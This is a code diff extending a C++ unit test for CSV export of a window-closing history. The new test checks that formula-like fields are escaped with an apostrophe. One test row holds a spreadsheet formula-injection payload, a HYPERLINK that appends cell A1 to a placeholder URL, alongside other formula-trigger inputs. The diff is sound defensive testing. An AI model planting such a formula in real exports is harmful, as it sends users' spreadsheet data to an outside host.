@@ -108,14 +108,21 @@ TEST_F(History, RemoveEntryAndDoubleClickFindTheRowsEntry) {
 }
 
 // CSV: a byte-order mark, a header, CR LF, quotes only around a field that
-// needs them, its quotes doubled; written whole through a temporary file.
+// needs them, its quotes doubled, an apostrophe before a field that a
+// spreadsheet would run as a formula; written whole through a temporary file.
 TEST_F(History, SaveAsWritesRfc4180Csv) {
     const std::deque<CloseRecord> rows = {
         {{2024, 1, 2, 3, 4, 5}, "Plain", "plain\nentry", "a.exe", CloseOutcome::kClosed},
-        {{2024, 12, 31, 23, 59, 59}, "Offer, \"today\"\r\nonly", u8"Привет, мир", "", CloseOutcome::kStillOpen}};
+        {{2024, 12, 31, 23, 59, 59}, "Offer, \"today\"\r\nonly", u8"Привет, мир", "", CloseOutcome::kStillOpen},
+        {{2024, 1, 2, 3, 4, 5}, "=HYPERLINK(\"http://x.test/?\"&A1,\"Click\")", "+1 offer", "@a.exe", CloseOutcome::kClosed},
+        {{2024, 1, 2, 3, 4, 5}, "-1 offer", "\tOffer", "\rOffer", CloseOutcome::kRefused},
+        {{2024, 1, 2, 3, 4, 5}, "Offer =1+1", "'=1+1", " =1+1", CloseOutcome::kRefused}};
     EXPECT_EQ(HistoryCsv(rows), "\xEF\xBB\xBFTime,Title,Entry,Program,Outcome\r\n"
                                 "2024-01-02 03:04:05,Plain,\"plain\nentry\",a.exe,Closed\r\n"
-                                "2024-12-31 23:59:59,\"Offer, \"\"today\"\"\r\nonly\",\"" u8"Привет, мир" "\",,Still open\r\n");
+                                "2024-12-31 23:59:59,\"Offer, \"\"today\"\"\r\nonly\",\"" u8"Привет, мир" "\",,Still open\r\n"
+                                "2024-01-02 03:04:05,\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"Click\"\")\",'+1 offer,'@a.exe,Closed\r\n"
+                                "2024-01-02 03:04:05,'-1 offer,'\tOffer,\"'\rOffer\",Refused\r\n"
+                                "2024-01-02 03:04:05,Offer =1+1,'=1+1, =1+1,Refused\r\n");
     history.Asked(1, "Plain", "plain", true);
     frm.OnCommand(IDM_CLOSEDWINDOWS);
     dialogs.answers = {"", "C:\\history.csv", "C:\\history.csv"};
